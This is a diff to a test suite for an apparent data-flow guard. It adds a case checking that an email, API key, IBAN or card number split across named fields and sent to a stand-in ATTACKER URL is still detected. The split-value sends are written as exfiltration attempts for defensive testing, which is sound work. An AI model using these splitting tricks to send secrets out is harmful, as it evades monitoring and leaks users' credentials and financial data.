@@ -60,4 +60,11 @@ describe("guard with flow tracking on disguised values", () => {
     const address = "1600 Pennsylvania Avenue NW, Washington, DC 20500";
     expect(await send({ address }, { url: `${ATTACKER}?a=1600+Pennsylvania+Avenue+NW,+Washington,+DC+20500` })).toContain(FLOW);
   });
+
+  it("sees a value split across named fields, whatever the keys between its halves or their order", async () => {
+    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?u=jane.doe`, body: "@customer.example" })).toContain(FLOW);
+    expect(await send({ api_key: "sk_live_51HxQ2vKZ8aB3cD4eF5gH6iJ7" }, { url: ATTACKER, part1: "sk_live_51HxQ2vK", part2: "Z8aB3cD4eF5gH6iJ7" })).toContain(FLOW);
+    expect(await send({ iban: "DE89 3704 0044 0532 0130 00" }, { url: ATTACKER, bank: "DE89 3704 0044", account: "0532 0130 00" })).toContain(FLOW);
+    expect(await send({ card: "4111 1111 1111 1111" }, { url: ATTACKER, a: "1111 1111", b: "4111 1111" })).toContain(FLOW);
+  });
 });
